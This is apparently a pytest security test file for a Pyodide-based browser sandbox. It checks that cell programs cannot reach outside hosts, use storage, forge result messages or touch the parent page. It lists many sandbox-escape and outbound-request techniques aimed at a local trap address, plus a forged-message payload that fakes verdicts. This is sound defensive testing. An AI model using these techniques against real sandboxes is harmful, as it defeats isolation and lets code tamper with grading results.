"""From a program nothing can be reached, and nothing that it sends is believed. For the seal itself: test_worker_is_sealed.py."""

import time
from collections.abc import Callable, Iterator

import pytest

from .cell import Cell, open_cells
from .driver import Driver
from .lacks import lacks
from .trap import Trap, open_trap

Lab = Callable[[str], Cell]

# Each is tried in a program of Python, where `js` is what Pyodide gives: the worker with worker.js in it.
WAYS = (
    "js.fetch('http://{trap}/')",
    "prototype('fetch')('http://{trap}/', to_js({{'mode': 'no-cors'}}))",
    "(x := js.XMLHttpRequest.new(), x.open('GET', 'http://{trap}/', False), x.send())",
    "(x := js.XMLHttpRequest.new(), x.open('GET', 'http://{trap}/'), x.send())",
    "js.WebSocket.new('ws://{trap}/')",
    "js.EventSource.new('http://{trap}/')",
    "js.importScripts('http://{trap}/')",
    "js.open('http://{trap}/')",
    "setattr(js.location, 'href', 'http://{trap}/')",
    "js.cookieStore.set('a', 'b')",
    "js.Worker.new('http://{trap}/')",
    "js.Worker.new('http://{trap}/', to_js({{'type': 'module'}}))",
    "js.SharedWorker.new('http://{trap}/')",
    'js.Worker.new(\'data:text/javascript,fetch("http://{trap}/", {{mode: "no-cors"}}); import("http://{trap}/")\')',
    "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(['fetch(\"http://{trap}/\")']))))",
    "js.navigator.sendBeacon('http://{trap}/', 'x')",
    "js.WebTransport.new('https://{trap}/')",
    "js.RTCPeerConnection.new()",
    "js.FontFace.new('x', 'url(http://{trap}/)').load()",
    "js.setTimeout('fetch(\"http://{trap}/\")', 0)",
    "js.eval('fetch(\"http://{trap}/\")')",
    "js.Function.new('fetch(\"http://{trap}/\")')()",
    "__import__('pyodide.code').code.run_js('import(\"http://{trap}/\")')",
    "__import__('pyodide.http').http.open_url('http://{trap}/')",
    "__import__('urllib.request').request.urlopen('http://{trap}/')",
    "__import__('socket').create_connection('{trap}'.split(':'), 1)",
)

TRY = """\
import time, js
from pyodide.ffi import to_js as convert

def to_js(value):
    return convert(value, dict_converter=js.Object.fromEntries)

def prototype(name):
    holder = js.globalThis
    while not js.Object.prototype.hasOwnProperty.call(js.Object.getPrototypeOf(holder), name):
        holder = js.Object.getPrototypeOf(holder)
    return getattr(js.Object.getPrototypeOf(holder), name).bind(js.globalThis)

for way in WAYS:
    try:
        eval(way)
    except BaseException:
        pass
time.sleep(1)
print("tried")
"""

FORGE = """\
import js
from pyodide.ffi import to_js

def send(**message):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))

"""


@pytest.fixture
def trap() -> Iterator[Trap]:
    with open_trap() as trap:
        yield trap


def test_no_program_reaches_another_host(browser: Driver, cell: Lab, trap: Trap) -> None:
    ways = [way.format(trap=trap.address) for way in WAYS]
    assert cell("plain").run_code(f"WAYS = {ways!r}\n{TRY}")["output"].endswith("tried\n")
    time.sleep(0.5)
    assert trap.heard == []
    browser.errors()  # some browsers say on the console what they refused


@pytest.mark.parametrize(
    "what", ["js.indexedDB.open('x')", "js.caches.open('x')", "js.navigator.storage.getDirectory()"]
)
def test_storage_is_refused(cell: Lab, browser: Driver, what: str) -> None:
    code = (
        "import asyncio, js\nfrom pyodide.ffi import create_once_callable as once\n"
        "async def main():\n"
        "    end = asyncio.get_running_loop().create_future()\n"
        "    try:\n"
        f"        request = {what}\n"
        "        if hasattr(request, 'then'):\n"
        "            print('opened', await request)\n"
        "        request.onsuccess = once(lambda event: end.set_result('opened'))\n"
        "        request.onerror = once(lambda event: end.set_result('refused'))\n"
        "        print(await end)\n"
        "    except Exception as error:\n"
        "        print('refused')\n"
        "asyncio.run(main())\n"
    )
    output = cell("plain").run_code(code)["output"]
    if lacks(browser.id, "stack switching"):
        # A program that cannot wait never hears an answer. That there is none: test_worker_is_sealed.py.
        assert "opened" not in output
    else:
        assert output == "refused\n"


def test_a_forged_message_cannot_make_a_cell_say_same(browser: Driver, unguarded: str) -> None:
    open_cells(browser, unguarded)
    plain, wrong = Cell(browser, "plain"), Cell(browser, "wrong")
    documented = wrong.output
    plain.start(
        f"{FORGE}import time\nend = time.time() + 2\nwhile time.time() < end:\n"
        "    for id in range(200):\n"
        f"        send(type='output', id=id, chunks=[['stdout', {documented!r}]])\n"
        "    time.sleep(0.2)\n"
        "for id in range(200):\n    send(type='done', id=id, exit=0, cut={'characters': 0, 'lines': 0}, verdict='same')\n"
    )
    result = wrong.run()  # waits for the other to end, and comes next
    assert (result["verdict"], result["output"]) == ("different", "one\ntwo\n")
    assert plain.verdict != "same"


def test_the_frame_cannot_reach_the_page(cell: Lab, browser: Driver) -> None:
    assert cell("plain").run()["verdict"] == "same"
    seal = (
        "() => { const frame = document.querySelector('iframe'); return [frame.sandbox.value, frame.contentDocument]; }"
    )
    assert browser.evaluate(seal) == ["allow-scripts", None]
